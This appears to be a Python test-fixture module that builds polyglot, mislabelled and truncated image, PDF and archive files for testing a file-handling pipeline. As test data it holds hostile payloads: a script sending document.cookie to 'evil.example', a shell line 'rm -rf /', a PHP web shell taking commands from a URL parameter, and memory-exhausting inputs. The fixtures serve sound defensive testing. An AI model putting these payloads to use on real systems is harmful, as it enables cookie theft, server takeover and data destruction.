"""Files that are two things at once, or none of what they say; and files that end in the middle of a structure."""

from __future__ import annotations

import re
import struct
from collections.abc import Callable, Iterator
from functools import partial

from tests.data import make_files as make

from . import pdfs, pictures

Maker = Callable[[], bytes]
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


def _small_pdf() -> bytes:
    return make.digital_pdf(1)


def _small_png() -> bytes:
    return make.encoded(make.picture(16, 16), "PNG", dpi=(72, 72))


POLYGLOTS: dict[str, Maker] = {
    "pdf and zip": lambda: _small_pdf() + make.archive("evil.exe"),
    "zip and pdf": lambda: make.archive("evil.exe") + _small_pdf(),
    "pdf in zip, stored": lambda: make.archive("%PDF-1.7"),
    "html and pdf": lambda: b"<html>" + SCRIPT + b"</html>" + _small_pdf(),
    "pdf and html": lambda: b"%PDF-1.4\n" + b"<html>" + SCRIPT + b"</html>",
    "pdf that is html behind": lambda: _small_pdf() + b"<html>" + SCRIPT,
    "comment and pdf": lambda: b"<!-- " + _small_pdf() + b" -->",
    "script and pdf": lambda: b"#!/bin/sh\nrm -rf /\n" + _small_pdf(),
    "elf and pdf": lambda: b"\x7fELF" + bytes(60) + _small_pdf(),
    "gif and javascript": lambda: b"GIF89a/*" + bytes(99) + b"*/=1;alert(1)",
    "gif with script": lambda: pictures.gif(b"!\xfe\x3e" + SCRIPT.ljust(62) + b"\0" + pictures.FRAME),
    "gif and pdf": lambda: pictures.gif(pictures.FRAME) + _small_pdf(),
    "png and html": lambda: pictures.small_png(pictures.chunk(b"tEXt", b"Comment\0" + SCRIPT)),
    "png and zip": lambda: _small_png() + make.archive("evil.exe"),
    "png and pdf": lambda: _small_png() + _small_pdf(),
    "jpeg and php": lambda: pictures.jpeg(pictures.segment(0xFE, b"<?php system($_GET[0]); ?>")),
    "jpeg and javascript": lambda: b"\xff\xd8\xff\xe0\x2f\x2a" + bytes(99) + b"*/=alert(1)//",
    "bmp and javascript": lambda: b"BM=1;/*" + pictures.bmp(9, 9)[7:] + b"*/alert(1)",
    "tiff and pdf": lambda: make.tiff(1, dpi=18) + _small_pdf(),
    "webp and html": lambda: pictures.riff((b"XMP ", SCRIPT)),
    "zip named pdf": make.archive,
    "docx named pdf": lambda: make.archive("word/document.xml"),
    "epub": make.epub,
    "html named pdf": make.html,
    "svg with script": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
    "svg of entities": lambda: b"<?xml version='1.0'?><!DOCTYPE s [<!ENTITY a 'aaaa'>]><svg>&a;</svg>",
    "markup without end": lambda: b"<!--" * 1_000_000,
    "xml without end": lambda: b"<?xml " + b" " * 3_000_000,
    "blanks without end": lambda: b" " * 3_000_000,
    "heic": make.heic,
    "avif": lambda: b"\0\0\0\x18ftypavif" + bytes(200),
    "text": make.plain_text,
    "postscript": lambda: b"%!PS\n{} loop\n%PDF-1.7",
    "zeros": lambda: bytes(10_000),
    "ones": lambda: b"\xff" * 10_000,
    "one byte": lambda: b"%",
    "nothing": lambda: b"",
    "gzip": lambda: b"\x1f\x8b\x08" + bytes(99),
    "jpeg 2000": lambda: b"\xff\x4f\xff\x51" + bytes(99),
    "mz": lambda: b"MZ" + bytes(999),
    "rtf": lambda: b"{\\rtf1{\\object\\objdata 00}}",
    "old office": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(999),
}  # fmt: skip

_HEADS = {
    "pdf": b"%PDF-1.7\n",
    "png": pictures.PNG,
    "jpg": b"\xff\xd8\xff",
    "gif": b"GIF89a",
    "webp": b"RIFF\0\1\0\0WEBP",
    "bmp": pictures.bmp(9, 9)[:18],
    "tif": b"II*\0\x08\0\0\0",
    "big tif": b"MM\0+\0\x08\0\0",
}
_BODIES: dict[str, Maker] = {
    "pdf": _small_pdf,
    "png": _small_png,
    "jpg": lambda: make.encoded(make.picture(16, 16), "JPEG"),
    "gif": lambda: pictures.gif(pictures.FRAME),
    "webp": lambda: make.encoded(make.picture(16, 16), "WEBP"),
    "bmp": lambda: make.encoded(make.picture(16, 16), "BMP"),
    "tif": lambda: make.encoded(make.picture(16, 16), "TIFF"),
    "big tif": lambda: make.encoded(make.picture(16, 16), "TIFF", big_tiff=True),
}


def _wrong(head: str, body: str) -> bytes:
    return _HEADS[head] + _BODIES[body]()[len(_HEADS[head]) :]


WRONG_MAGIC: dict[str, Maker] = {
    f"{body} that says {head}": partial(_wrong, head, body) for head in _HEADS for body in _BODIES if head != body
}


def boundaries(data: bytes, kind: str) -> list[int]:
    """Where one structure of the file ends and another begins, as offsets."""
    match kind:
        case "png":
            return list(_png_chunks(data))
        case "jpg":
            return [found.start() for found in re.finditer(rb"\xff[\xc0-\xfe]", data)]
        case "webp":
            return [0, 8, 12, 16, 20, 25, 30]
        case "gif":
            return [0, 6, 10, 13, *(found.start() for found in re.finditer(rb"[!,;]", data[13:120]))]
        case "bmp":
            return [2, 10, 14, 18, 30, 54]
        case "tif":
            start = struct.unpack_from("<I", data, 4)[0]
            return [2, 4, 8, start, start + 2, *range(start + 2, len(data), 12)]
        case "pdf":
            words = rb"\d+ 0 obj|<<|>>|stream|endstream|endobj|xref|trailer|startxref|%%EOF"
            return [found.end() for found in re.finditer(words, data)]
    raise ValueError(kind)


def _png_chunks(data: bytes) -> Iterator[int]:
    at = 8
    while at < len(data):
        yield from (at, at + 4, at + 8)
        at += 12 + int.from_bytes(data[at : at + 4], "big")


def _cut_at(kind: str, index: int) -> bytes:
    data = WHOLE[kind]()
    return data[: boundaries(data, kind)[index]]


WHOLE: dict[str, Maker] = {
    "pdf": lambda: pdfs.one_page(
        pdfs.FONT + b"/Annots[5 0 R]", None, [b"<</Type/Annot/Subtype/Square/Rect[1 1 2 2]>>"]
    ),
    "png": _small_png,
    "jpg": _BODIES["jpg"],
    "gif": lambda: pictures.gif(b"!\xf9\x04\0\0\0\0\0" + pictures.FRAME * 2),
    "webp": _BODIES["webp"],
    "bmp": _BODIES["bmp"],
    "tif": _BODIES["tif"],
}

CUTS: dict[str, Maker] = {
    f"{kind} cut at {index}": partial(_cut_at, kind, index)
    for kind, whole in WHOLE.items()
    for index in range(len(boundaries(whole(), kind)))
}
